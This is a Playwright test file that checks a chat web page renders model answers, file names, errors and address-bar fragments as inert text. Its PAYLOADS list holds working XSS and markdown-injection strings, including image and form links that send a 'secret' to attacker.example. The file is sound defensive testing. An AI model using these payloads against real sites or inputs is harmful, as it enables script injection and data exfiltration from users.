"""Whatever a model, a file name or an error says is text. The fixtures see to it that no script runs and no other host is asked."""

import pytest

from tests.page.conftest import ask, attach
from tests.page.mock_server import MODEL, NOTHING, medium, said, view

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<a href=\"javascript:alert(1)\" onclick='alert(1)'>press</a>",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt&#58;alert(1))",
    "[press](data:text/html,<script>alert(1)</script>)",
    "[press](vbscript:x)",
    "<javascript:alert(1)>",
    '[press](https://example.org/"onmouseover="alert(1))',
    '[press](https://example.org "a\\" onmouseover=alert(1) x=\\"")',
    "![picture](http://attacker.example/?q=secret)",
    "![picture](https://attacker.example/x.png 'y')",
    '![x" onerror="alert(1)](https://attacker.example/x.png)',
    "![picture](data:image/svg+xml,<svg onload=alert(1)>)",
    "![picture][1]\n\n[1]: http://attacker.example/secret",
    "```html\n<script>alert(1)</script>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{http://attacker.example/x.png}$",
    "$\\htmlData{x=1}{y}$ $$\\unknown{<img src=x onerror=alert(1)>}$$",
    "$<img src=x onerror=alert(1)>$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <b onclick=alert(1)>x</b> | [x](javascript:alert(1)) |",
    "<form action=https://attacker.example><button>Sign in</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://attacker.example/x.css>",
    "<base href=https://attacker.example/><meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "\u202ertl override <b>bold</b> \u0000 \ufffd",
]
MARKUP = (
    "#page :is(script, iframe, object, embed, form:not(#composer):not(.key form), style, link, base, meta, img[src^=http], "
    "[onerror], [onload], [onclick])"
)
SCHEMES = "[...document.querySelectorAll('#page a')].map((a) => a.protocol)"


def is_clean(page):
    return page.locator(MARKUP).count() == 0 and set(page.evaluate(SCHEMES)) <= {"http:", "https:"}


def test_answers_and_thoughts_are_harmless(page, server):
    everything = "\n\n".join(PAYLOADS[:17] + PAYLOADS[18:] + PAYLOADS[17:18])  # the fence that nobody closes comes last
    server.script = [[("thinking", everything), *said(everything)]]
    ask(page, everything)
    answer = page.get_by_role("article", name="Answer")
    answer.get_by_text("1,234 tokens in").wait_for()
    answer.locator(".formula.unread, .formula.set").first.wait_for()
    page.locator("details.thinking summary").click()
    assert is_clean(page)
    assert answer.get_by_text("<script>alert(1)</script>").first.is_visible()
    for link in answer.get_by_role("link", name="press").all():
        link.hover()
    assert answer.get_by_role("link", name="press").count() >= 1
    assert page.locator(".not-loaded").count() >= 4


def test_a_payload_that_is_still_arriving_is_harmless(page, server):
    """Character by character, so that each is cut in many places."""
    server.script = [[("text", piece) for payload in PAYLOADS[:8] for piece in (*payload, "\n\n")] + said("end")[1:]]
    ask(page, "slowly")
    page.get_by_text("1,234 tokens in").wait_for()
    assert is_clean(page)


@pytest.mark.parametrize("payload", ["<img src=x onerror=alert(1)>", "\u202egnp.exe"])
def test_names_errors_models_and_findings_are_text(page, server, payload):
    server.models = [{**MODEL, "id": payload}]
    server.count = lambda index, name: medium(index, name, 5, [view(10, 10, 5, note=payload)], left_out=payload)
    found = {
        "boxes": [{"label": payload, "box": [1, 1, 5, 5], "medium": 0, "view": 0, "page": None}],
        "points": [{"label": payload, "point": [4, 4], "medium": 0, "view": 0, "page": None}],
        "citations": [{"page": 1, "quote": payload, "box": None, "verified": False, "medium": 0}],
        "looked_at": [payload],
    }
    server.script = [said("See.", found), [("error", 400, payload, payload)]]
    page.reload()
    attach(page, {"name": f"{payload}.png", "mimeType": "image/png", "buffer": b"not a picture"})
    page.get_by_text("5 tokens").wait_for()
    ask(page, payload)
    page.get_by_text("1,234 tokens in").wait_for()
    page.get_by_role("button", name="page 1").click()
    ask(page, "again")
    page.locator(".ending.failed").wait_for()
    page.get_by_role("button", name="Settings").click()
    assert page.locator(MARKUP).count() == 0
    assert server.heard.chats[0]["model"] == payload
    names = page.locator(".card-name").all_inner_texts()
    assert names
    assert all("\u202e" not in name for name in names)


def test_findings_that_make_no_sense_are_not_drawn(page, server):
    boxes = [
        {"label": "far", "box": [-50, -50, 1e9, 1e9], "medium": 7, "view": 3, "page": None},
        {"label": "short", "box": [1], "medium": 0, "view": 0, "page": None},
        {"label": "none", "box": [None, 1, 2, 3], "medium": 0, "view": 0, "page": None},
        *({"label": f"b{k}", "box": [k, k, k + 1, k + 1], "medium": 0, "view": 0, "page": 2} for k in range(3000)),
    ]
    server.script = [said("There.", {**NOTHING, "boxes": boxes})]
    ask(page, "Where?")
    page.get_by_text("1,234 tokens in").wait_for()
    assert page.locator(".spot").count() == 2
    assert page.locator(".spot-picture > .overlaid rect.edge").count() == 200


def test_huge_answers_are_shown_and_leave_the_page_alive(page, server):
    rows = "\n".join(f"| {k} | x |" for k in range(5000))
    server.script = [said(f"| a | b |\n|---|---|\n{rows}"), said("*" * 120_000 + "[" * 120_000)]
    ask(page, "table")
    page.get_by_text("1,234 tokens in").wait_for()
    assert page.locator("td").count() == 0
    assert "| 4999 | x |" in page.locator("pre code").inner_text()
    ask(page, "stars")
    page.locator("pre.plain").wait_for()


def test_an_address_bar_says_nothing(page, server):
    for tail in ("#<img src=x onerror=alert(1)>", "?q=<script>alert(1)</script>#__proto__", "#constructor"):
        page.goto(server.url + tail)
        page.get_by_text("What would you like to know?").wait_for()
    assert is_clean(page)


def test_right_to_left_text_has_its_direction(page, server):
    server.script = [said("مرحبا بالعالم\n\nHello")]
    ask(page, "שלום")
    page.get_by_text("1,234 tokens in").wait_for()
    direction = "(element) => getComputedStyle(element).direction"
    assert page.get_by_text("مرحبا").evaluate(direction) == "rtl"
    assert page.get_by_text("Hello").evaluate(direction) == "ltr"
    assert page.locator(".said").evaluate(direction) == "rtl"
